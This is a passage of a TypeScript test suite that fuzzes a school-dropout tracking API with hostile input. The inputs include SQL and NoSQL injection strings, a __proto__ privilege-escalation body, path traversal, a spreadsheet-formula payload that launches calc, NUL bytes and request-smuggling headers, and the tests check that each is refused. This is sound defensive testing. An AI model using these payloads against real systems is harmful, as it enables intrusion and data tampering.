  it('refuses text the database cannot store (NUL, lone surrogates) with 4xx, not 500; the task stays open', async () => {
    await unchanged(async () => {
      for (const visitors of ['王\u0000老师', '\ud800王老师']) {
        const res = await complete({ visitedOn: '2026-11-18', visitors, outcome: 'PERSUASION_FAILED' });
        expectRefusal(res, [400, 422], ['FORM_INVALID', 'VALIDATION_FAILED']);
      }
      const raw = Buffer.concat([
        Buffer.from('{"visitedOn":"2026-11-18","outcome":"PERSUASION_FAILED","visitors":"王'),
        Buffer.from([0xed, 0xa0, 0x80]),
        Buffer.from('老师"}'),
      ]);
      expectRefusal(await complete(raw), [400, 422], ['FORM_INVALID', 'VALIDATION_FAILED']);
    });
    await stillOpen();
  });

  it('bulk completion: any bad line refuses the whole batch (422), malformed batches 400', async () => {
    const bulk = (body: unknown) => sendJson('POST', '/api/tasks/bulk-complete', teacher, body);
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(fc.anything({ maxDepth: 3 }), async (data) => {
          const res = await bulk({ tasks: [{ key: task.userTaskKey, data }] });
          // 400 also from the JSON parser itself, which refuses a "__proto__" key anywhere in the body.
          const error = expectRefusal(res, [400, 422]);
          if (res.status === 422) expect(error.code).toBe('FORM_INVALID');
        }),
        { numRuns: RUNS },
      );
      const valid = { visitedOn: '2026-11-18', visitors: '王老师', outcome: 'PERSUASION_FAILED' };
      for (const body of [
        {},
        { tasks: [] },
        { tasks: 'all' },
        { tasks: [{ key: task.userTaskKey }] },
        { tasks: [{ key: 'abc', data: valid }] },
        { tasks: [{ key: "1' OR 1=1 --", data: valid }] },
        { tasks: [{ key: '9'.repeat(20), data: valid }] },
        { tasks: [{ key: '0', data: valid }] },
        {
          tasks: [
            { key: task.userTaskKey, data: valid },
            { key: task.userTaskKey, data: valid },
          ],
        },
        { tasks: Array.from({ length: 201 }, (_, i) => ({ key: String(i + 1), data: valid })) },
        // A good line beside a bad one: neither is done.
        {
          tasks: [
            { key: task.userTaskKey, data: valid },
            { key: '1', data: valid },
          ],
        },
      ]) {
        expectRefusal(await bulk(body), [400, 404, 422]);
      }
    });
    await stillOpen();
  });

  it('refuses task keys beyond the engine’s 64-bit keys (path and bulk) with 4xx, not 500', async () => {
    const valid = { visitedOn: '2026-11-18', visitors: '王老师', outcome: 'PERSUASION_FAILED' };
    await unchanged(async () => {
      for (const key of ['9223372036854775808', '9999999999999999999']) {
        expectRefusal(await sendJson('POST', `/api/tasks/${key}/complete`, teacher, valid), [400, 404]);
        expectRefusal(await send('GET', `/api/tasks/${key}`, { token: teacher }), [400, 404]);
        expectRefusal(await send('GET', `/api/tasks/${key}/context`, { token: teacher }), [400, 404]);
        expectRefusal(await sendJson('POST', `/api/tasks/${key}/claim`, teacher, {}), [400, 404]);
        const bulk = await sendJson('POST', '/api/tasks/bulk-complete', teacher, { tasks: [{ key, data: valid }] });
        expectRefusal(bulk, [400, 404, 422]);
      }
    });
    await stillOpen();
  });

  it('refuses task keys that are no keys in the path', async () => {
    await unchanged(async () => {
      for (const key of ['abc', '-1', '1.5', '%00', '%27%20OR%201%3D1', '9'.repeat(20), '99999999999999999990']) {
        expectRefusal(await sendJson('POST', `/api/tasks/${key}/complete`, teacher, {}), [400, 404]);
        expectRefusal(await send('GET', `/api/tasks/${key}`, { token: teacher }), [400, 404]);
      }
    });
  });
});

// ─────────────────────────────── query parameters ───────────────────────────────

/** A query-string value: injections, numbers far out of range, Unicode, or several values for one key. */
const queryValue = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.integer().map(String),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
  fc.double().map(String),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 10 }),
  fc.array(fc.constantFrom(...INJECTIONS, '1', '2'), { minLength: 2, maxLength: 3 }),
);

function queryString(params: Record<string, string | string[]>): string {
  const search = new URLSearchParams();
  for (const [k, v] of Object.entries(params)) {
    for (const one of Array.isArray(v) ? v : [v]) search.append(k, one.isWellFormed() ? one : one.toWellFormed());
  }
  return search.toString();
}

interface ListAnswer {
  data: { id: string | number }[];
  total: number;
}

/** Every id the caller can list on `path` (the whole of their jurisdiction, page by page). */
async function allIds(path: string, token: string): Promise<Set<string>> {
  const ids = new Set<string>();
  for (let page = 1; ; page++) {
    const res = await send('GET', `${path}?perPage=500&page=${page}`, { token });
    expect(res.status, res.text).toBe(200);
    const body = res.body as ListAnswer;
    for (const row of body.data) ids.add(String(row.id));
    if (body.data.length < 500) return ids;
  }
}

describe('query parameters: injections and nonsense answer 400 or a scoped list, never 500', () => {
  const lists: [path: string, user: () => string, keys: string[]][] = [
    [
      '/api/children',
      () => town,
      ['q', 'idNumber', 'regionCode', 'schoolId', 'classId', 'flag', 'sort', 'order', 'page', 'perPage', 'id'],
    ],
    [
      '/api/cases',
      () => town,
      ['status', 'regionCode', 'schoolId', 'childId', 'open', 'sort', 'order', 'page', 'perPage', 'id'],
    ],
    ['/api/schools', () => town, ['q', 'regionCode', 'kind', 'sort', 'order', 'page', 'perPage', 'id']],
    ['/api/classes', () => town, ['schoolId', 'grade', 'schoolYear', 'sort', 'order', 'page', 'perPage', 'id']],
    ['/api/towns', () => town, ['q', 'sort', 'order', 'page', 'perPage', 'id']],
    ['/api/users', () => bureau, ['q', 'role', 'sort', 'order', 'page', 'perPage', 'id']],
    ['/api/imports', () => bureau, ['kind', 'year', 'sort', 'order', 'page', 'perPage', 'id']],
    [
      '/api/audit-events',
      () => supervisor,
      ['action', 'entity', 'entityId', 'userId', 'from', 'to', 'order', 'page', 'perPage', 'id'],
    ],
    [
      '/api/tasks',
      () => town,
      [
        'view',
        'process',
        'type',
        'overdue',
        'dueBefore',
        'assignee',
        'unassigned',
        'town',
        'school',
        'processInstanceKey',
        'sort',
        'order',
        'page',
        'perPage',
      ],
    ],
  ];

  for (const [path, user, keys] of lists) {
    it(`${path}: never a 5xx, never a row outside the caller's jurisdiction`, async () => {
      const token = user();
      const scoped = path === '/api/tasks' ? undefined : await allIds(path, token);
      await unchanged(async () => {
        await fc.assert(
          fc.asyncProperty(
            fc.dictionary(
              fc.oneof(
                fc.constantFrom(...keys),
                fc.constantFrom('$where', '__proto__', 'constructor', 'id[]', 'page[gt]'),
              ),
              queryValue,
              {
                minKeys: 1,
                maxKeys: 4,
              },
            ),
            async (params) => {
              const res = await send('GET', `${path}?${queryString(params)}`, { token });
              expectNoServerError(res);
              if (res.status !== 200) {
                // 403: a view the role may not take (the task inbox's view=all is for supervisors).
                expect([400, 403], res.text).toContain(res.status);
                return;
              }
              const body = res.body as ListAnswer;
              expect(Array.isArray(body.data)).toBe(true);
              if (scoped)
                for (const row of body.data) expect(scoped.has(String(row.id)), `${path} row ${row.id}`).toBe(true);
            },
          ),
          { numRuns: RUNS },
        );
        for (const query of [
          'page=0',
          'page=-1',
          'page=1e400',
          'page=9999999999999999999999',
          'perPage=0',
          'perPage=-5',
          'perPage=501',
          'perPage=100000000',
          'page=1000000&perPage=500',
          'page=1&page=2',
          'sort=password',
          'sort=passwordHash',
          'order=asc;DROP',
          'id=1&id=%27%20OR%201%3D1',
          `id=${'x'.repeat(65)}`,
          Array.from({ length: 501 }, (_, i) => `id=${i}`).join('&'),
          'q=%00',
          // NUL in every free-text filter (PostgreSQL cannot compare text with NUL: a 500 if passed on).
          'idNumber=%00',
          'entity=%00',
          'entityId=a%00b',
          'process=%00',
          'type=%00',
          'assignee=%00',
          'q=%E0%A4%A',
          '%ZZ=1',
          'q[$ne]=1',
        ]) {
          const res = await send('GET', `${path}?${query}`, { token });
          expectNoServerError(res);
          if (res.status === 200 && scoped) {
            for (const row of (res.body as ListAnswer).data)
              expect(scoped.has(String(row.id)), `${query}: ${row.id}`).toBe(true);
          }
        }
      });
    });
  }

  it('another jurisdiction named in a filter widens nothing', async () => {
    const other = people.otherTownPupil;
    for (const query of [
      `regionCode=${other.regionCode}`,
      `idNumber=${other.idNumber}`,
      `id=${other.id}`,
      `q=${encodeURIComponent(other.name)}`,
      'regionCode=37',
      "regionCode=' OR 1=1 --",
    ]) {
      const res = await send('GET', `/api/children?${query}`, { token: town });
      expectNoServerError(res);
      if (res.status === 200) expect((res.body as ListAnswer).data.map((c) => c.id)).not.toContain(other.id);
    }
    const tasks = await send('GET', `/api/tasks?town=${other.regionCode.slice(0, 9)}&view=group`, { token: town });
    expectNoServerError(tasks);
  });

  it('report parameters: nonsense and injections answer 400/404, never 500', async () => {
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom('verification', 'dropouts', 'retention'),
          fc.dictionary(
            fc.constantFrom('county', 'period', 'year', 'campaign', 'format', 'minAge', 'maxAge'),
            queryValue,
            { maxKeys: 4 },
          ),
          async (report, params) => {
            expectNoServerError(await send('GET', `/api/reports/${report}?${queryString(params)}`, { token: bureau }));
          },
        ),
        { numRuns: RUNS },
      );
    });
  });
});

// ─────────────────────────────── JSON bodies ───────────────────────────────

describe('JSON bodies: any Unicode is stored exactly or refused with 400, never 500', () => {
  let childId: string;
  let userId: number;
  const trimmed = (s: string) => s.trim();

  beforeAll(async () => {
    const c = kid();
    const res = await sendJson('POST', '/api/children', bureau, {
      idNumber: c.id,
      name: '测试儿童',
      regionCode: '370481001',
    });
    expect(res.status, res.text).toBe(201);
    childId = (res.body as { id: string }).id;
    const u = await sendJson('POST', '/api/users', bureau, {
      username: `bad-input-${SALT}-${Date.now() % 100000}`,
      displayName: '测试账号',
      password: 'Kongchuo@2026x',
      role: 'TOWN',
      regionCode: '370481001',
    });
    expect(u.status, u.text).toBe(201);
    userId = (u.body as { id: number }).id;
  });

  /** Sends `text` in `field`; accepted → stored exactly as `stored()` reads it, refused → 400 and nothing changed. */
  async function storedExactlyOrRefused(
    send: (text: string) => Promise<Answer>,
    stored: () => Promise<unknown>,
    text: string,
  ): Promise<void> {
    const before = await fingerprint();
    const res = await send(text);
    if (res.status === 200 || res.status === 201) {
      expect(await stored(), JSON.stringify(text)).toBe(trimmed(text));
    } else {
      expectRefusal(res, [400], ['VALIDATION_FAILED']);
      expect(await fingerprint()).toEqual(before);
    }
  }

  it('PUT /api/children/:id name and addresses', async () => {
    await fc.assert(
      fc.asyncProperty(
        anyText,
        fc.constantFrom('name', 'householdAddress', 'residenceAddress'),
        async (text, field) => {
          await storedExactlyOrRefused(
            (t) => sendJson('PUT', `/api/children/${childId}`, bureau, { [field]: t }),
            async () => (await prisma.child.findUniqueOrThrow({ where: { id: childId } }))[field as 'name'],
            text,
          );
        },
      ),
      { numRuns: RUNS * 2 },
    );
    // The named troublemakers, each refused.
    for (const name of [
      '李\u0000四',
      '\ud800',
      '\udfff王',
      '\u202e三张',
      '张\u200b三',
      '换\n行',
      'x'.repeat(51),
      '',
      '   ',
    ]) {
      await unchanged(async () => {
        expectRefusal(
          await sendJson('PUT', `/api/children/${childId}`, bureau, { name }),
          [400],
          ['VALIDATION_FAILED'],
        );
      });
    }
    // Emoji, rare CJK, combining marks and right-to-left scripts are names like any other.
    for (const name of ['👨‍👩‍👧‍👦', '𠀀𪚥𰻞', 'e\u0301', 'ئۇيغۇرچە', "=cmd|' /C calc'!A0"]) {
      const res = await sendJson('PUT', `/api/children/${childId}`, bureau, { name });
      expect(res.status, res.text).toBe(200);
      expect((await prisma.child.findUniqueOrThrow({ where: { id: childId } })).name).toBe(name);
    }
  });

  it('a lone surrogate or a NUL sent as raw bytes is refused (400), not stored as U+FFFD', async () => {
    for (const bytes of [
      [0xed, 0xa0, 0x80], // a surrogate encoded as UTF-8 (CESU-8)
      [0xc0, 0x80], // an overlong NUL
      [0xff, 0xfe],
      [0x80],
    ]) {
      await unchanged(async () => {
        const raw = Buffer.concat([Buffer.from('{"name":"王'), Buffer.from(bytes), Buffer.from('五"}')]);
        expectRefusal(await sendJson('PUT', `/api/children/${childId}`, bureau, raw), [400]);
      });
    }
    await unchanged(async () => {
      expectRefusal(await sendJson('PUT', `/api/children/${childId}`, bureau, '{"name":"王\\u0000五"}'), [400]);
      expectRefusal(await sendJson('PUT', `/api/children/${childId}`, bureau, '{"name":"王\\ud800五"}'), [400]);
    });
  });

  it('POST /api/children: hostile names, ID numbers, guardians and regions', async () => {
    await fc.assert(
      fc.asyncProperty(anyText, async (name) => {
        const c = kid();
        const before = await fingerprint();
        const res = await sendJson('POST', '/api/children', bureau, { idNumber: c.id, name, regionCode: '370481001' });
        if (res.status === 201) {
          expect((await prisma.child.findUniqueOrThrow({ where: { idNumber: c.id } })).name).toBe(name.trim());
        } else {
          expectRefusal(res, [400], ['VALIDATION_FAILED']);
          expect(await fingerprint()).toEqual(before);
        }
      }),
      { numRuns: RUNS },
    );
    const c = kid();
    const base = { idNumber: c.id, name: '某某', regionCode: '370481001' };
    await unchanged(async () => {
      for (const body of [
        { ...base, idNumber: c.id.slice(0, 17) + (c.id[17] === '1' ? '2' : '1') },
        { ...base, idNumber: `${c.id}\u0000` },
        { ...base, idNumber: "370481' OR 1=1 --" },
        { ...base, idNumber: 'x'.repeat(100_000) },
        { ...base, regionCode: '370402001' },
        { ...base, regionCode: '999999999' },
        { ...base, regionCode: "370481001' --" },
        { ...base, householdRegionId: 2 ** 31 },
        { ...base, householdRegionId: 2 ** 53 - 1 },
        { ...base, householdRegionId: 999_999_999 },
        { ...base, flags: ['ORPHAN', '$where'] },
        { ...base, flags: Array(21).fill('ORPHAN') },
        { ...base, guardians: [{ name: '母\u0000亲', relation: '母亲' }] },
        { ...base, guardians: [{ name: '母亲', relation: '母亲', phone: "13800138000' --" }] },
        { ...base, guardians: Array(7).fill({ name: '甲', relation: '父亲' }) },
        { ...base, guardians: { name: '甲', relation: '父亲' } },
        { ...base, householdAddress: '路\u0000号' },
        { ...base, residenceAddress: 'x'.repeat(201) },
        { ...base, name: ['张三'] },
        { ...base, name: { $ne: null } },
        { ...base, name: 12345 },
      ]) {
        expectRefusal(await sendJson('POST', '/api/children', bureau, body), [400, 409]);
      }
      // The ID number of a child already registered: 409, and nothing changes.
      const existing = await prisma.child.findFirstOrThrow({ where: { regionCode: { startsWith: '370481' } } });
      expectRefusal(
        await sendJson('POST', '/api/children', bureau, { ...base, idNumber: existing.idNumber }),
        [409],
        ['CONFLICT'],
      );
    });
    // Fields the caller may not set are ignored, not written: the id is the server's own.
    const fresh = kid();
    const chosen = '00000000-0000-0000-0000-000000000000';
    const res = await sendJson('POST', '/api/children', bureau, {
      ...base,
      idNumber: fresh.id,
      id: chosen,
      createdAt: '1970-01-01T00:00:00Z',
      currentSchoolId: 1,
    });
    expect(res.status, res.text).toBe(201);
    const stored = await prisma.child.findUniqueOrThrow({ where: { idNumber: fresh.id } });
    expect(stored.id).not.toBe(chosen);
    expect(stored.currentSchoolId).toBeNull();
    expect(stored.createdAt.getUTCFullYear()).toBeGreaterThan(2000);
  });

  it('PUT /api/children/:id: another jurisdiction, impossible regions, ids that are not ids', async () => {
    await unchanged(async () => {
      for (const body of [
        { householdRegionId: 2 ** 31 },
        { householdRegionId: 999_999_999 },
        { householdRegionId: -1 },
        { guardians: [{ name: '\u202e亲母', relation: '母亲' }] },
        { flags: 'ORPHAN' },
      ]) {
        expectRefusal(await sendJson('PUT', `/api/children/${childId}`, bureau, body), [400]);
      }
      const otherCounty = await prisma.region.findFirst({ where: { code: { startsWith: '370402' } } });
      if (otherCounty) {
        expectRefusal(
          await sendJson('PUT', `/api/children/${childId}`, bureau, { householdRegionId: otherCounty.id }),
          [400],
        );
      }
      // Another town's child, through the town officer: not found.
      expectRefusal(
        await sendJson('PUT', `/api/children/${people.otherTownPupil.id}`, town, { name: '改名' }),
        [404],
        ['NOT_FOUND'],
      );
      for (const id of ['not-a-uuid', "1' OR '1'='1", '00000000-0000-0000-0000-00000000000g', '%00']) {
        expectRefusal(
          await sendJson('PUT', `/api/children/${encodeURIComponent(id)}`, bureau, { name: '某' }),
          [400, 404],
        );
        expectRefusal(await send('GET', `/api/children/${encodeURIComponent(id)}`, { token: bureau }), [400, 404]);
      }
    });
  });

  it('users: display names, usernames, passwords and placements', async () => {
    await fc.assert(
      fc.asyncProperty(anyText, async (text) => {
        await storedExactlyOrRefused(
          (t) => sendJson('PUT', `/api/users/${userId}`, bureau, { displayName: t }),
          async () => (await prisma.user.findUniqueOrThrow({ where: { id: userId } })).displayName,
          text,
        );
      }),
      { numRuns: RUNS },
    );
    const base = {
      username: `bi-${SALT}-x`,
      displayName: '某',
      password: 'Kongchuo@2026x',
      role: 'TOWN',
      regionCode: '370481001',
    };
    await unchanged(async () => {
      for (const body of [
        { ...base, displayName: '王\u0000五' },
        { ...base, displayName: '\ud800' },
        { ...base, username: "admin' --" },
        { ...base, username: 'ADMIN' },
        { ...base, username: 'a\u0000b' },
        { ...base, username: 'bureau' },
        { ...base, password: 'short' },
        { ...base, password: 'x'.repeat(900_000) },
        { ...base, role: 'ADMIN' },
        { ...base, role: 'GOD' },
        { ...base, regionCode: '37' },
        { ...base, regionCode: '370402' },
        { ...base, role: 'SCHOOL', schoolId: 2 ** 31 },
        { ...base, role: 'SCHOOL', schoolId: 2 ** 53 - 1 },
        { ...base, role: 'TEACHER', classId: 2 ** 31 },
        { ...base, role: 'TEACHER', classId: 999_999_999 },
        { ...base, regionCode: ['370481001'] },
      ]) {
        expectRefusal(await sendJson('POST', '/api/users', bureau, body), [400, 403, 409]);
      }
      expectRefusal(
        await sendJson(
          'POST',
          '/api/users',
          bureau,
          `{"username":"bi-proto","displayName":"某","password":"Kongchuo@2026x","role":"TOWN","regionCode":"370481001","__proto__":{"role":"ADMIN"}}`,
        ),
        [400],
      );
      // Not a manager: a town officer cannot create accounts.
      expectRefusal(await sendJson('POST', '/api/users', town, base), [403]);
      for (const id of ['abc', '-1', '0', '1.5', '2147483648', '9'.repeat(30)]) {
        expectRefusal(await sendJson('PUT', `/api/users/${id}`, bureau, { displayName: '某' }), [400, 404]);
      }
    });
  });

  it('schools, classes, towns and case files: hostile names stored exactly or refused', async () => {
    const school = await prisma.school.findFirstOrThrow({
      where: { regionCode: { startsWith: '370481' }, classes: { some: {} } },
      orderBy: { id: 'asc' },
    });
    const klass = await prisma.schoolClass.findFirstOrThrow({ where: { schoolId: school.id } });
    const townRow = await prisma.region.findFirstOrThrow({ where: { level: 'TOWN', code: { startsWith: '370481' } } });
    const kase = await prisma.dropoutCase.findFirst({ where: { regionCode: { startsWith: '370481' } } });
    const targets: [string, string, () => Promise<unknown>][] = [
      [
        `/api/schools/${school.id}`,
        'address',
        async () => (await prisma.school.findUniqueOrThrow({ where: { id: school.id } })).address,
      ],
      [
        `/api/classes/${klass.id}`,
        'headTeacher',
        async () => (await prisma.schoolClass.findUniqueOrThrow({ where: { id: klass.id } })).headTeacher,
      ],
      [
        `/api/towns/${townRow.id}`,
        'educationOffice',
        async () => (await prisma.region.findUniqueOrThrow({ where: { id: townRow.id } })).educationOffice,
      ],
    ];
    if (kase) {
      targets.push([
        `/api/cases/${kase.id}`,
        'responsiblePerson',
        async () => (await prisma.dropoutCase.findUniqueOrThrow({ where: { id: kase.id } })).responsiblePerson,
      ]);
    }
    try {
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...targets), anyText, async ([path, field, stored], text) => {
          await storedExactlyOrRefused((t) => sendJson('PUT', path, bureau, { [field]: t }), stored, text);
        }),
        { numRuns: RUNS },
      );
      await unchanged(async () => {
        for (const [path, body] of [
          [`/api/schools/${school.id}`, { name: '学\u0000校' }],
          [`/api/schools/${school.id}`, { kind: 'CASTLE' }],
          [`/api/classes/${klass.id}`, { name: '一\u0000班' }],
          [`/api/towns/${townRow.id}`, { name: '\u202e镇' }],
          ...(kase
            ? ([
                [`/api/cases/${kase.id}`, { reasonCode: 'A\u0000' }],
                [`/api/cases/${kase.id}`, { reasonCode: "A2' --" }],
                [`/api/cases/${kase.id}`, { plan: '计\u0000划' }],
                [`/api/cases/${kase.id}`, { plan: 'x'.repeat(4001) }],
              ] as const)
            : []),
        ] as const) {
          expectRefusal(await sendJson('PUT', path, bureau, body), [400]);
        }
        for (const body of [
          { schoolId: 2 ** 31, schoolYear: YEAR, grade: 1, name: '班' },
          { schoolId: 2 ** 53 - 1, schoolYear: YEAR, grade: 1, name: '班' },
          { schoolId: school.id, schoolYear: YEAR, grade: 10, name: '班' },
          { schoolId: school.id, schoolYear: YEAR, grade: 1, name: '班\u0000' },
        ]) {
          expectRefusal(await sendJson('POST', '/api/classes', bureau, body), [400, 404]);
        }
        for (const body of [
          { code: '31370481xx', name: '学校', kind: 'PRIMARY', regionCode: '370481001' },
          { code: '3137099999', name: '学\u0000校', kind: 'PRIMARY', regionCode: '370481001' },
          { code: '3137099999', name: '学校', kind: 'PRIMARY', regionCode: '370402001' },
        ]) {
          expectRefusal(await sendJson('POST', '/api/schools', bureau, body), [400]);
        }
      });
    } finally {
      await prisma.region.update({ where: { id: townRow.id }, data: { educationOffice: townRow.educationOffice } });
    }
  });

  it('POST /api/dropout-reports: text the engine and database cannot carry is refused before a flow starts', async () => {
    const pupil = await pupilWithoutCase(prisma, people.teacher.classId);
    const base = { child: pupil.id, lastAttendance: '2026-11-16', reason: '连续旷课' };
    await unchanged(async () => {
      for (const body of [
        { ...base, reason: '旷\u0000课' },
        { ...base, reason: '\ud800' },
        { ...base, reason: '\u202e课旷' },
        { ...base, reason: 'x'.repeat(501) },
        { ...base, reason: '   ' },
        { ...base, lastAttendance: '2026-02-30' },
        { ...base, lastAttendance: '2999-01-01' },
        { ...base, lastAttendance: "2026-11-16' --" },
        { ...base, child: 'not-a-uuid' },
        { ...base, child: people.otherTownPupil.id },
        { ...base, school: 2 ** 31 },
        { ...base, school: 2 ** 53 - 1 },
        { ...base, school: -1 },
        { ...base, child: [pupil.id] },
      ]) {
        expectRefusal(await sendJson('POST', '/api/dropout-reports', teacher, body), [400, 404]);
      }
    });
    // No flow was started for the pupil.
    expect(await prisma.dropoutCase.count({ where: { childId: pupil.id } })).toBe(0);
  });
});

// ─────────────────────────────── malformed HTTP ───────────────────────────────

describe('malformed HTTP: invalid JSON, wrong content types, oversized bodies, raw bytes', () => {
  it('invalid JSON, wrong content types and empty bodies answer 400/415 in the error shape', async () => {
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(fc.string({ maxLength: 200 }), async (text) => {
          let valid = true;
          try {
            JSON.parse(text);
          } catch {
            valid = false;
          }
          fc.pre(!valid);
          expectRefusal(await sendJson('PUT', `/api/users/999999`, bureau, text), [400]);
        }),
        { numRuns: RUNS },
      );
      for (const [contentType, body] of [
        ['text/plain', '{"name":"x"}'],
        ['application/x-www-form-urlencoded', 'name=x'],
        ['application/xml', '<name>x</name>'],
        ['application/json; charset=latin1', '{"name":"x"}'],
        ['application/json', ''],
        ['application/json', '{'],
        ['application/json', '{"name":"x"}garbage'],
        ['application/json', '\u0000'],
        ['multipart/form-data; boundary=x', '--x\r\n\r\n--x--'],
        ['', '{"name":"x"}'],
      ] as const) {
        for (const path of ['/api/children', '/api/users', '/api/dropout-reports', '/api/schools']) {
          expectRefusal(await send('POST', path, { token: bureau, contentType, body }), [400, 403, 415]);
        }
      }
    });
  });

  it('a JSON body over 1 MB answers 413', async () => {
    await unchanged(async () => {
      const big = JSON.stringify({ name: 'x'.repeat(1024 * 1024 + 10) });
      for (const path of ['/api/children', '/api/users', '/api/tasks/bulk-complete', '/api/dropout-reports']) {
        expectRefusal(await sendJson('POST', path, bureau, big), [413]);
      }
    });
  });

  /** Writes bytes straight onto a socket (what fetch refuses to send) and reads the answer. */
  function rawRequest(request: Buffer | string): Promise<string> {
    const url = new URL(apiUrl);
    return new Promise((resolve, reject) => {
      const socket = new net.Socket();
      let answer = '';
      const timer = setTimeout(() => {
        socket.destroy();
        reject(new Error('no answer'));
      }, HANG_MS);
      socket.connect(Number(url.port), url.hostname, () => socket.end(request));
      socket.on('data', (d) => (answer += d.toString('latin1')));
      socket.on('close', () => {
        clearTimeout(timer);
        resolve(answer);
      });
      socket.on('error', reject);
    });
  }

  it('raw non-ASCII in the URL, huge URLs and broken request lines answer 4xx and the server stays up', async () => {
    await unchanged(async () => {
      const auth = `Authorization: Bearer ${bureau}\r\n`;
      for (const request of [
        Buffer.concat([
          Buffer.from('GET /api/children?q='),
          Buffer.from('张三'),
          Buffer.from(` HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`),
        ]),
        `GET /api/children?q=${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`,
        `GET /api/children HTTP/1.1\r\nHost: x\r\n${auth}X-Big: ${'a'.repeat(100_000)}\r\nConnection: close\r\n\r\n`,
        'GARBAGE\r\n\r\n',
        `POST /api/children HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: 10\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        `POST /api/children HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: -1\r\n\r\n`,
      ]) {
        const answer = await rawRequest(request);
        const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]);
        expect(status, answer.slice(0, 300)).toBeGreaterThanOrEqual(400);
        expect(status, answer.slice(0, 300)).toBeLessThan(500);
      }
    });
    await expectHealthy();
  });

  it('path parameters that are not ids answer 400/404, never 500', async () => {
    const bad = [
      'abc',
      '-1',
      '0',
      '1.5',
      '1e3',
      '2147483648',
      '9'.repeat(30),
      "1'%20OR%201=1",
      '%00',
      '..%2F..%2Fetc',
      'null',
      'undefined',
    ];
    await unchanged(async () => {
      for (const id of bad) {
        for (const path of [
          `/api/children/${id}`,
          `/api/children/${id}/registry`,
          `/api/schools/${id}`,
          `/api/classes/${id}`,
          `/api/towns/${id}`,
          `/api/users/${id}`,
          `/api/cases/${id}`,
          `/api/cases/${id}/timeline`,
          `/api/campaigns/${id}`,
          `/api/handovers/${id}`,
          `/api/process-instances/${id}`,
          `/api/tasks/${id}/context`,
        ]) {
          expectRefusal(await send('GET', path, { token: bureau }), [400, 403, 404]);
        }
      }
    });
  });
});

describe('malformed URLs', () => {
  it('a broken percent-encoding or an overlong path parameter answers 4xx in the error shape', async () => {
    await unchanged(async () => {
      for (const path of ['/api/children/%E0%A4%A', '/api/schools/%ZZ', '/api/tasks/%E0/complete']) {
        expectRefusal(await send('GET', path, { token: bureau }), [400]);
      }
      // A path parameter longer than the router takes.
      expectRefusal(await send('GET', `/api/children/${'x'.repeat(300)}`, { token: bureau }), [400, 404, 414]);
    });
  });
});

describe('afterwards', () => {
  it('the server still answers', async () => {
    await expectHealthy();
    const res = await send('GET', '/api/children?perPage=1', { token: bureau });
    expect(res.status).toBe(200);
  });
});
